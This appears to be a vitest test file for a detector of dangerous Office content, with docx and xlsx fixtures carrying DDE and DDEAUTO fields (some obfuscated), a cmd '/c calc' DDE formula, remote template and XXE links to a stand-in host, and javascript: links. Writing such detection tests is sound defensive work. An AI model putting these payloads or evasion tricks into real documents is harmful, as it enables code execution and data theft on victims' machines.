import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import * as made from './made.fixture.ts'
import { faultOfOffice } from './office.ts'
import type { Fault, Office } from './office-fault.ts'

/** What a document fetches or runs when it is opened or brought up to date, and what looks like it and is none. */
const { bookOf, documentOf, docxOf, formulaOf, relations, sheetTypesOf, typeOf, typesOf, xlsxOf } = made

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'outside-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function faultOf(bytes: Buffer, format: Office): Promise<Fault | null> {
  const file = path.join(folder, 'a')
  await writeFile(file, bytes)
  return faultOfOffice(file, format)
}

const doctype = '<!DOCTYPE a [<!ENTITY b SYSTEM "http://e.com/b">]>'
const body = (inside: string) => docxOf({ 'word/document.xml': documentOf(inside) })
const linked = (...all: Parameters<typeof relations>) => docxOf({ 'word/_rels/document.xml.rels': relations(...all) })
/** A relation whose attributes are written as given. */
const written = (attributes: string) =>
  docxOf({ 'word/_rels/document.xml.rels': relations().replace('</', `<Relationship Id="r1" ${attributes}/></`) })
const typed = (kind: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
/** A field whose instruction is cut into these runs. */
const field = (...runs: string[]) =>
  `<w:p>${mark('begin')}${runs.map((each) => (each.startsWith('<') ? each : run(each))).join('')}` +
  `${mark('separate')}<w:r><w:t>LINK 3</w:t></w:r>${mark('end')}</w:p>`
const simple = (instruction: string) => `<w:p><w:fldSimple w:instr="${instruction}"/></w:p>`
const inPart = (part: string) =>
  docxOf({ [`word/${part}.xml`]: documentOf(field('DDEAUTO c:\\\\a.exe')).replaceAll('w:document', 'w:hdr') })

test.each<[what: string, bytes: () => Buffer, fault: Fault | null]>([
  ['a remote template', () => linked(['attachedTemplate', 'http://e.com/a.dotm', 'External']), 'external'],
  ['a remote picture', () => linked(['image', 'http://e.com/a.png', 'External']), 'external'],
  ['a share', () => linked(['image', '\\\\host\\share\\a.png']), 'external'],
  ['a share by slashes', () => linked(['image', '\\/host/a.png']), 'external'],
  ['a script as link', () => linked(['hyperlink', ' javascript:alert(1)', 'External']), 'external'],
  [
    'a mode hidden by a namespace',
    () => written(`${typed('attachedTemplate')} xmlns:TargetMode="Internal" Target="a.dotm" TargetMode="External"`),
    'external',
  ],
  [
    'a link hidden by a prefix',
    () => written(`${typed('image')} xmlns:x="x" x:Target="a.png" Target="http://e.com/a"`),
    'external',
  ],
  [
    'a namespace named like a mode',
    () => written(`${typed('image')} xmlns:TargetMode="External" Target="a.png"`),
    null,
  ],
  ['an attribute twice', () => written(`${typed('image')} Target="a.png" Target="http://e.com/a.png"`), 'damaged'],
  ['a mode that nobody knows', () => written(`${typed('image')} Target="a.png" TargetMode="Outside"`), 'external'],
  ['a pane of the web', () => linked(['webextensiontaskpanes', 'a.xml']), 'external'],
  ['recipients elsewhere', () => linked(['mailMergeSource', 'file:///c:/a.mdb', 'External']), 'source'],
  ['a linked picture', () => body('<a:blip xmlns:r="r" r:link="r1"/>'), 'external'],
  [
    'a drawing with a remote picture',
    () => body('<v:shape><v:imagedata src="https://e.com/a.png"/></v:shape>'),
    'external',
  ],
  ['a drawing that opens a file', () => body('<v:shape href="file:///c:/a.exe"/>'), 'external'],
  ['a DTD', () => docxOf({ 'word/document.xml': documentOf('', doctype) }), 'external'],
  [
    'a DTD in a part of another ending',
    () =>
      docxOf({
        '[Content_Types].xml': typesOf().replace('</', '<Default Extension="bin" ContentType="application/xml"/></'),
        'word/a.bin': `${doctype}<a/>`,
      }),
    'external',
  ],
  ['a DTD in a part without a type', () => docxOf({ 'word/a.bin': `\uFEFF ${doctype}<a/>` }), 'external'],
  ['a DTD in UTF-16', () => docxOf({ 'word/a.bin': Buffer.from(`${doctype}<a/>`, 'utf16le') }), 'damaged'],
  [
    'a main part of another ending',
    () =>
      docxOf({
        '[Content_Types].xml': typesOf().replace('/word/document.xml', '/word/document.bin'),
        '_rels/.rels': relations(['officeDocument', 'word/document.bin']),
        'word/document.bin': documentOf('', doctype),
      }),
    'external',
  ],
  ['DDE', () => body(field(' DDE excel a b ')), 'live'],
  ['DDEAUTO in small letters, cut into runs', () => body(field(' d', 'de', 'Auto ', 'c:\\\\a.exe')), 'live'],
  ['DDE partly in texts', () => body(field('D', '<w:r><w:t>DE</w:t></w:r>', ' excel a')), 'live'],
  ['DDE in a section', () => body(field('D<![CDATA[DE]]> a')), 'live'],
  ['DDE by references', () => body(field('&#68;D&#x45; a')), 'live'],
  ['DDE that was deleted', () => body(field('<w:r><w:delInstrText>DDE a</w:delInstrText></w:r>')), 'live'],
  ['DDE in a simple field', () => body(simple(' DDEAUTO c:\\\\a.exe ')), 'live'],
  ['DDE inside of a condition', () => body(field('IF ', mark('begin'), 'DDE a b', mark('end'), '= 1 "a" "b"')), 'live'],
  ['a name that another field makes', () => body(field(mark('begin'), 'QUOTE 68 68 69', mark('end'), ' a')), 'live'],
  ['half a name that another field ends', () => body(field('DD', simple('QUOTE 69').slice(5, -6), ' a')), 'live'],
  ['a field that never ends', () => body(`<w:p>${mark('begin')}${run('INCLUDETEXT "a.docx"')}</w:p>`), 'live'],
  ['INCLUDEPICTURE', () => body(field('INCLUDEPICTURE "http://e.com/a.png" \\d')), 'live'],
  ['INCLUDETEXT', () => body(field('INCLUDETEXT "\\\\\\\\host\\\\a.docx"')), 'live'],
  ['LINK', () => body(field('LINK Excel.Sheet.8 "a.xls" \\a')), 'live'],
  ['IMPORT', () => body(simple('IMPORT a.gif')), 'live'],
  ['a database', () => body(field('DATABASE \\d "a.mdb"')), 'live'],
  ['a link field to a program', () => body(field('HYPERLINK "file:///c:/a.exe"')), 'external'],
  ['a link field to a script', () => body(field('HYPERLINK \\o "tip" javascript:a()')), 'external'],
  ...['header1', 'footer1', 'footnotes', 'endnotes', 'comments', 'glossary/document'].map(
    (part): [string, () => Buffer, Fault] => [`DDE in ${part}`, () => inPart(part), 'live'],
  ),
])('ORG-06 FIL-01 in a docx, %s', async (_what, bytes, fault) => {
  expect(await faultOf(bytes(), 'docx')).toBe(fault)
})

test.each([
  ' PAGE ',
  'NUMPAGES \\* Arabic',
  ' TOC \\o "1-3" \\h \\z \\u ',
  ' HYPERLINK \\l "_Toc1" ',
  ' HYPERLINK "https://example.com/a?b=c&amp;d=e" \\o "LINK" \\t "_blank"',
  'HYPERLINK "mailto:a@example.com"',
  'HYPERLINK "" \\l "here"',
  'HYPERLINK https://example.com',
  'REF _Ref1 \\h',
  'DATE \\@ "yyyy年M月d日"',
  'MERGEFIELD 名称 \\* MERGEFORMAT',
  'PAGEREF _Toc1 \\h',
  '=SUM(ABOVE)',
  'FORMTEXT',
  'SEQ 图 \\* ARABIC',
  'STYLEREF "标题 1"',
  'MACROBUTTON NoMacro [请填写]',
])('ORG-06 a field as Word writes it is let in: %s', async (instruction) => {
  const inner = field('IF ', mark('begin'), instruction, mark('separate'), mark('end'), ' = 1 "a" "b"')
  const document = docxOf({
    'word/document.xml': documentOf(`${field(instruction)}${simple(instruction.replaceAll('"', '&quot;'))}${inner}`),
    'word/media/image1.svg': '<svg xmlns="s"><image href="data:image/png;base64,AAAA"/><use href="#a"/></svg>',
    'word/fonts/font1.odttf': Buffer.from('3c9f00d1aa', 'hex'),
    'word/vml.vml':
      '<xml xmlns:v="v"><v:shape href="https://e.com" style="width:1pt"><v:imagedata src=""/></v:shape></xml>',
  })
  expect(await faultOf(document, 'docx')).toBeNull()
})

const external = '<externalLink xmlns="m"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
const withPart = (part: string, type: string, xml: string) =>
  xlsxOf({ '[Content_Types].xml': sheetTypesOf(typeOf(part, type)), [part]: xml })
const connections =
  '<connections xmlns="m"><connection id="1" type="4"><webPr url="http://e.com"/></connection></connections>'
const calc = 'cmd|&apos;/c calc&apos;!A1'
const inSheet = (formula: string) => xlsxOf({ 'xl/worksheets/sheet1.xml': formulaOf(formula) })
test.each<[what: string, bytes: () => Buffer, fault: Fault | null]>([
  ['a DDE link', () => withPart('xl/externalLinks/externalLink1.xml', 'externalLink', external), 'source'],
  ['a link to an object', () => withPart('xl/a.xml', 'externalLink', external.replace('ddeLink', 'oleLink')), 'source'],
  ['a connection by its type', () => withPart('xl/connections.xml', 'connections', connections), 'source'],
  ['a connection under another type', () => xlsxOf({ 'xl/a.bin': connections }), 'source'],
  ['a web query', () => withPart('xl/queryTables/q1.xml', 'queryTable', '<queryTable xmlns="m"/>'), 'source'],
  [
    'a query by relation',
    () => xlsxOf({ 'xl/worksheets/_rels/sheet1.xml.rels': relations(['queryTable', 'a.xml']) }),
    'source',
  ],
  ['a DDE formula', () => inSheet(calc), 'live'],
  ['a DDE formula among others', () => inSheet(`IF(A1=&quot;a|b&quot;,1,${calc})`), 'live'],
  [
    'a DDE name',
    () =>
      xlsxOf({ 'xl/workbook.xml': bookOf(`<definedNames><definedName name="a">${calc}</definedName></definedNames>`) }),
    'live',
  ],
  ['WEBSERVICE', () => inSheet('_xlfn.WEBSERVICE(&quot;http://e.com&quot;)'), 'live'],
  ['RTD', () => inSheet('1+rtd (&quot;a.b&quot;,,1)'), 'live'],
  ['a remote picture by formula', () => inSheet('_xlfn.IMAGE(A1)'), 'live'],
  ['a macro sheet', () => withPart('xl/macrosheets/a.xml', 'macrosheet', '<a/>'), 'macro'],
  ['texts with signs of DDE', () => inSheet('CONCATENATE(&quot;cmd|a!A1 WEBSERVICE(&quot;,&apos;a|b&apos;!A1)'), null],
  ['names of functions in others', () => inSheet('SUM(RECALL(1),IMAGES(2),A1)'), null],
  [
    'a link to another workbook',
    () => xlsxOf({ 'xl/externalLinks/_rels/e1.xml.rels': relations(['externalLinkPath', 'b.xlsx', 'External']) }),
    null,
  ],
  [
    'a link to a page',
    () => xlsxOf({ 'xl/worksheets/_rels/sheet1.xml.rels': relations(['hyperlink', 'https://e.com', 'External']) }),
    null,
  ],
  [
    'an internal pivot',
    () =>
      xlsxOf({ 'xl/p.xml': '<pivotCacheDefinition xmlns="m"><cacheSource type="worksheet"/></pivotCacheDefinition>' }),
    null,
  ],
])('FIL-01 in an xlsx, %s', async (_what, bytes, fault) => {
  expect(await faultOf(bytes(), 'xlsx')).toBe(fault)
})
